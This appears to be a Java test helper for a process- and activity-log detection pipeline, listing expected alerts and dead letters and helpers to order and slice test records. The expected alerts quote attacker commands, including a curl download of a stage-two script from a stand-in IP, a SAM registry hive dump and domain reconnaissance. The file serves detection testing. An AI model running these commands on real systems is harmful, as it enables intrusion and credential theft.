package io.github.rcdetect.testing;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.Paths;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Comparator;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;

/**
 * The bundled testdata/ and what the job must make of it (docs/testing.md, "testdata/"): the expected alerts and dead
 * letters, and its records in the orders a stream or an export delivers them.
 */
public final class Testdata {
    /** The alerts the spec defines for testdata/, derived by hand: rule, time, host, what ran. */
    public static final List<String> EXPECTED_ALERTS = List.of(
            "R2 2026-03-10T09:14:30.412Z win-web-01 hostname.exe",
            "R1 2026-03-10T09:15:02.123Z win-web-01 \"C:\\Windows\\system32\\whoami.exe\" /all"
                    + " | \"C:\\Windows\\system32\\net.exe\" user /domain",
            "R2 2026-03-10T09:15:05.100Z win-web-01 conhost.exe",
            "R2 2026-03-10T09:15:05.350Z win-web-01 whoami.exe",
            "R2 2026-03-10T09:15:06.020Z win-web-01 net.exe",
            "R1 2026-03-10T09:16:10.555Z win-web-01 \"C:\\Windows\\system32\\ipconfig.exe\" /all",
            "R2 2026-03-10T09:16:12.200Z win-web-01 conhost.exe",
            "R2 2026-03-10T09:16:12.500Z win-web-01 ipconfig.exe",
            "R1 2026-03-10T10:01:58.700Z lnx-db-02 curl -fsSL http://198.51.100.23/stage2.sh -o /tmp/.s"
                    + " | chmod +x /tmp/.s",
            "R2 2026-03-10T10:02:01.000Z lnx-db-02 bash",
            "R2 2026-03-10T10:02:01.004Z lnx-db-02 curl",
            "R2 2026-03-10T10:02:01.950Z lnx-db-02 chmod",
            "R2 2026-03-10T11:20:30.000Z lnx-build-05 tar",
            "R1 2026-03-10T12:30:00.250Z win-sql-03 C:\\Windows\\system32\\cmd.exe /c \"net localgroup administrators\"",
            "R2 2026-03-10T12:30:04.880Z win-sql-03 cmd.exe",
            "R1 2026-03-10T13:45:10.000Z win-app-04 reg.exe save HKLM\\SAM C:\\Windows\\Temp\\sam.hiv",
            "R2 2026-03-10T13:45:16.100Z win-app-04 conhost.exe",
            "R2 2026-03-10T13:45:16.321Z win-app-04 reg.exe");

    /** The dead letters of testdata/: stream, file and line (and batch index), error type. */
    public static final List<String> EXPECTED_DEAD_LETTERS = List.of(
            "activity testdata/activity/1-eventhub-azure-monitor.ndjson:3 invalid_json",
            "activity testdata/activity/1-eventhub-azure-monitor.ndjson:5 records[1] invalid_timestamp",
            "activity testdata/activity/2-elastic-azure-activitylogs.ndjson:4 missing_timestamp",
            "process testdata/process/1-defend-windows.ndjson:7 invalid_field",
            "process testdata/process/2-defend-linux.ndjson:8 invalid_json",
            "process testdata/process/3-sysmon.ndjson:5 missing_timestamp");

    /** Noise an hour after testdata/ ends: produced to every partition, it moves every watermark past the data. */
    public static final String ACTIVITY_TICK =
            "{\"time\":\"2026-03-10T15:00:00Z\",\"operationName\":\"MICROSOFT.COMPUTE/VIRTUALMACHINES/READ\","
                    + "\"resourceId\":\"/subscriptions/s/resourceGroups/rg/providers/Microsoft.Compute/virtualMachines/tick\"}";

    public static final String PROCESS_TICK =
            "{\"@timestamp\":\"2026-03-10T15:00:00Z\",\"host\":{\"name\":\"tick\"},\"event\":{\"action\":\"start\","
                    + "\"type\":[\"start\"]},\"process\":{\"name\":\"svchost.exe\"}}";

    private Testdata() {}

    /** One alert as a line of {@link #EXPECTED_ALERTS}. */
    public static String describe(JsonNode alert) {
        String rule = alert.at("/rule/id").asText();
        String detail;
        if (alert.at("/process/command_line").isArray()) {
            List<String> commandLines = new ArrayList<>();
            alert.at("/process/command_line").forEach(line -> commandLines.add(line.asText()));
            detail = String.join(" | ", commandLines);
        } else {
            detail = alert.at("/process/name").asText();
        }
        return rule + " " + alert.at("/@timestamp").asText() + " "
                + alert.at("/host/name").asText() + " " + detail;
    }

    /** One dead letter as a line of {@link #EXPECTED_DEAD_LETTERS}. */
    public static String describeDeadLetter(JsonNode deadLetter) {
        JsonNode origin = deadLetter.at("/origin");
        return origin.at("/stream").asText()
                + " "
                + origin.at("/file").asText()
                + ":"
                + origin.at("/line").asLong()
                + (origin.has("record_index")
                        ? " records[" + origin.at("/record_index").asInt() + "]"
                        : "")
                + " "
                + deadLetter.at("/error/type").asText();
    }

    /** Alerts described, in the order of {@link #EXPECTED_ALERTS}: time, rule, host. */
    public static List<String> described(List<JsonNode> alerts) {
        return alerts.stream()
                .sorted(Comparator.comparing((JsonNode a) -> a.at("/@timestamp").asText())
                        .thenComparing(a -> a.at("/rule/id").asText())
                        .thenComparing(a -> a.at("/host/name").asText()))
                .map(Testdata::describe)
                .toList();
    }

    /** Exactly the expected alerts, none of them twice (by {@code event.id}). */
    public static void assertExactlyTheExpectedAlertsOnce(List<JsonNode> alerts) {
        Map<String, Integer> copies = new HashMap<>();
        alerts.forEach(alert -> copies.merge(alert.at("/event/id").asText(), 1, Integer::sum));
        assertThat(copies.values()).as("copies of each alert").allMatch(count -> count == 1);
        assertThat(described(alerts)).containsExactlyElementsOf(EXPECTED_ALERTS);
    }

    /** The lines of a folder's files, in file-name order and each file in its own order. */
    public static List<String> lines(String folder) throws IOException {
        List<String> lines = new ArrayList<>();
        try (Stream<Path> files = Files.list(Paths.get(folder))) {
            for (Path file : files.sorted().toList()) {
                lines.addAll(Files.readAllLines(file));
            }
        }
        return lines;
    }

    /**
     * The records of a testdata/ stream folder in time order, as a topic receives them (the files are exports, each
     * in its own order); lines without a readable time go first.
     */
    public static List<String> inTimeOrder(String stream) throws IOException {
        List<String> lines = new ArrayList<>(lines(Paths.get("testdata", stream).toString()));
        lines.sort(Comparator.comparing(Testdata::firstTime));
        return lines;
    }

    /** The first {@code time} or {@code @timestamp} of a line, or the epoch when it has none. */
    public static Instant firstTime(String line) {
        try {
            return Instant.parse(line.replaceAll("^.*?\"(?:time|@timestamp)\":\"([^\"]+)\".*$", "$1"));
        } catch (RuntimeException unreadable) {
            return Instant.EPOCH;
        }
    }

    /** Lines in parts cut at the given times (one part more than cuts), each part in the lines' order. */
    public static List<List<String>> cutAt(List<String> lines, Instant... cuts) {
        List<List<String>> parts = new ArrayList<>();
        for (int i = 0; i <= cuts.length; i++) {
            parts.add(new ArrayList<>());
        }
        for (String line : lines) {
            Instant time = firstTime(line);
            int part = 0;
            while (part < cuts.length && !time.isBefore(cuts[part])) {
                part++;
            }
            parts.get(part).add(line);
        }
        return parts;
    }
}
